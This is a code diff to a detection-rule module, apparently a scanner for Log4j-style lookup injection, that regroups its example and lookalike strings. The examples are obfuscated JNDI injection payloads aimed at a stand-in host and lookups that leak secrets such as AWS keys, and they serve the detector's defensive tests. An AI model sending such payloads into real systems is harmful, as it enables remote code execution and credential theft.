@@ -24,28 +24,20 @@ export const lookup: ValueRule = {
     });
   },
   examples: [
-    '${jndi:ldap://203.0.113.5/a}',
-    'Mozilla/5.0 ${${lower:j}ndi:${lower:r}mi://203.0.113.5/a}',
+    ...['${jndi:ldap://203.0.113.5/a}', '${${env:X:-j}ndi${env:X:-:}${env:X:-d}ns://203.0.113.5}'],
+    ...['Mozilla/5.0 ${${lower:j}ndi:${lower:r}mi://203.0.113.5/a}', '${jndi:ldap://203.0.113.5/a'],
     '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.5/a}',
-    '${${env:X:-j}ndi${env:X:-:}${env:X:-d}ns://203.0.113.5}',
-    '${jnd${upper:\u0131}:ldap://203.0.113.5/a}',
-    "${${date:'j'}ndi:iiop://203.0.113.5/a}",
-    '${${lower:${upper:${lower:j}}}ndi:ldap://203.0.113.5/a}',
-    '${jndi:ldap://203.0.113.5/a',
-    '{jnDi:ldap://203.0.113.5/a}',
+    ...['${jnd${upper:\u0131}:ldap://203.0.113.5/a}', "${${date:'j'}ndi:iiop://203.0.113.5/a}"],
+    ...['${${lower:${upper:${lower:j}}}ndi:ldap://203.0.113.5/a}', '{jnDi:ldap://203.0.113.5/a}'],
     '{${upper:j}ndi:${lower:l}dap:${sys:file.separator}/203.0.113.5/a}',
     '${jndi${sys:path.separator}rmi:${sys:file.separator}/203.0.113.5/a}',
   ],
   lookalikes: [
-    '${name} has ${count} messages',
-    'echo ${HOME:-/root} ${LANG:-C}',
-    '${user.name:-guest}',
-    '{jndi} is {count} letters, {lower:upper}',
-    '{date:"2026-01-01",lower:1}',
-    'A JNDI look-up begins with jndi: and a URL.',
+    ...['${name} has ${count} messages', 'echo ${HOME:-/root} ${LANG:-C}', '${user.name:-guest}'],
+    ...['{jndi} is {count} letters, {lower:upper}', '{date:"2026-01-01",lower:1}'],
+    ...['A JNDI look-up begins with jndi: and a URL.', '`${date:YYYY}-${lower:x}`'],
     'What is ${jndi:ldap://...} in my logs? Am I hacked?',
     'The hole was about ${jndi:...} look-ups; please upgrade.',
-    '`${date:YYYY}-${lower:x}`',
   ],
 };
 
@@ -75,14 +67,11 @@ export const nestedLookup: ValueRule = {
     return undefined;
   },
   examples: [
-    '${${::-j}${::-n}${::-d}${::-i}${x}:ldap://203.0.113.5/a}',
+    ...['${${::-j}${::-n}${::-d}${::-i}${x}:ldap://203.0.113.5/a}', '${${::-${::-$${::-x}}}}'],
     '${${lower:j}${lower:n}${foo}di:${lower:d}ns://203.0.113.5/}',
-    '${${::-${::-$${::-x}}}}',
   ],
   lookalikes: [
-    '${a:-${b:-${c:-default}}}',
-    '${prefix}${env:HOME}/${env:USER}',
-    '${${type}.${name}.url}',
+    ...['${a:-${b:-${c:-default}}}', '${prefix}${env:HOME}/${env:USER}', '${${type}.${name}.url}'],
   ],
 };
 
@@ -133,16 +122,11 @@ export const secretLookup: ValueRule = {
     return undefined;
   },
   examples: [
-    '${env:AWS_SECRET_ACCESS_KEY}',
-    '${sys:java.version}',
+    ...['${env:AWS_SECRET_ACCESS_KEY}', '${sys:java.version}', '${java:runtime}', '${ctx:loginId}'],
     'http://${hostName}.files.example.net/',
-    '${java:runtime}',
-    '${ctx:loginId}',
   ],
   lookalikes: [
-    '${env:HOME}',
-    '${hostname}',
-    '${env.BUILD_ID}',
+    ...['${env:HOME}', '${hostname}', '${env.BUILD_ID}'],
     'serverless reads ${env:STAGE} and ${self:custom.x}',
   ],
 };
